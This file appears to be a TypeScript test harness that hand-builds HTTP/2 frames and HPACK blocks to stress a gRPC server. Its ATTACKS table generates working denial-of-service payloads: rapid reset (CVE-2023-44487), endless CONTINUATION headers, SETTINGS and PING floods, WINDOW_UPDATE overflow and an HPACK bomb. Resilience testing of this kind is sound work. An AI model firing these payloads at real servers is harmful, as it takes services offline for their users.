import { EXPORT_PATH, PREFACE } from './grpc-harness.ts';

/** HTTP/2 frames byte by byte (RFC 9113, section 6), for floods and lies that no client library sends. */
const DATA = 0;
export const HEADERS = 1;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
export const END_HEADERS = 4;

export function http2Frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const POST_HTTP = Buffer.of(0x83, 0x86);

/** HPACK (RFC 7541) of an Export request's headers: two of the static table, the rest spelt out. */
export const EXPORT_HEADERS = Buffer.concat([
  POST_HTTP,
  literal(':path', EXPORT_PATH),
  literal(':authority', 'test'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);

function literal(name: string, value: string, kind = 0): Buffer {
  return Buffer.concat([Buffer.of(kind, name.length), Buffer.from(name), Buffer.of(value.length), Buffer.from(value)]);
}

/** Kept in the dynamic table for the requests after it. */
function indexed(name: string, value: string): Buffer {
  return literal(name, value, 0x40);
}

function u32(...values: number[]): Buffer {
  const bytes = Buffer.alloc(values.length * 4);
  values.forEach((value, at) => bytes.writeUInt32BE(value, at * 4));
  return bytes;
}

/** A request opened and left open, or ended, on the odd-numbered stream. */
function openStream(stream: number, flags = END_HEADERS): Buffer {
  return http2Frame(HEADERS, flags, stream, EXPORT_HEADERS);
}

function repeat(count: number, frameOf: (i: number) => Uint8Array): Buffer {
  return Buffer.concat([PREFACE, ...Array.from({ length: count }, (_, i) => frameOf(i))]);
}

/** HPACK of the shortest request that is one: POST, http, / and an authority that is indexed for those after it. */
const SHORT_HEADERS = [Buffer.of(0x83, 0x86, 0x84, 0x41, 1, 0x61), Buffer.of(0x83, 0x86, 0x84, 0xbe)] as const;

/** Rapid reset in 26 bytes a stream: 2,500 of them are in what Node reads at once. */
export function shortResets(count: number): Buffer {
  return resets(count, SHORT_HEADERS);
}

/** As few bytes, of calls that a gRPC server has a method for. */
export function shortCallResets(count: number, path: string): Buffer {
  const first = [indexed(':path', path), indexed(':authority', 'a'), indexed('content-type', 'application/grpc')];
  // The newest in the dynamic table is 62 (0xbe).
  return resets(count, [Buffer.concat([POST_HTTP, ...first]), Buffer.concat([POST_HTTP, Buffer.of(0xc0, 0xbf, 0xbe)])]);
}

function resets(count: number, [first, next]: readonly [Buffer, Buffer]): Buffer {
  return repeat(count, (i) =>
    Buffer.concat([
      http2Frame(HEADERS, END_HEADERS, 2 * i + 1, i === 0 ? first : next),
      http2Frame(RST_STREAM, 0, 2 * i + 1, u32(8)),
    ]),
  );
}

/** The attacks of row S13, `count` frames each, with the preface before them. */
export const ATTACKS: Record<string, (count: number) => Buffer> = {
  'rapid reset (CVE-2023-44487)': (count) =>
    repeat(count, (i) => Buffer.concat([openStream(2 * i + 1), http2Frame(RST_STREAM, 0, 2 * i + 1, u32(8))])),
  'headers without end (CVE-2024-27983)': (count) =>
    Buffer.concat([
      repeat(1, () => openStream(1, 0)),
      repeat(count, () => http2Frame(CONTINUATION, 0, 1, literal('x-padding', 'p'.repeat(120)))).subarray(
        PREFACE.length,
      ),
    ]),
  'SETTINGS flood': (count) => repeat(count, () => http2Frame(SETTINGS, 0, 0, Buffer.alloc(0))),
  'PING flood': (count) => repeat(count, () => http2Frame(PING, 0, 0, Buffer.alloc(8))),
  'empty DATA': (count) =>
    Buffer.concat([
      repeat(1, () => openStream(1)),
      repeat(count, () => http2Frame(DATA, 0, 1, Buffer.alloc(0))).subarray(PREFACE.length),
    ]),
  'WINDOW_UPDATE overflow (CVE-2026-21714)': (count) =>
    repeat(count, () => http2Frame(WINDOW_UPDATE, 0, 0, u32(0x7fffffff))),
  'HPACK bomb': (count) => {
    // One large header into the dynamic table, then as many references to it as fit.
    const entry = Buffer.concat([
      Buffer.of(0x40, 1),
      Buffer.from('x'),
      Buffer.of(0x7f, 0x81, 0x1e),
      Buffer.alloc(4000, 'p'),
    ]);
    const block = Buffer.concat([EXPORT_HEADERS, entry, Buffer.alloc(10_000, 0xbe)]);
    return repeat(Math.min(count, 50), (i) => http2Frame(HEADERS, END_HEADERS, 2 * i + 1, block));
  },
};
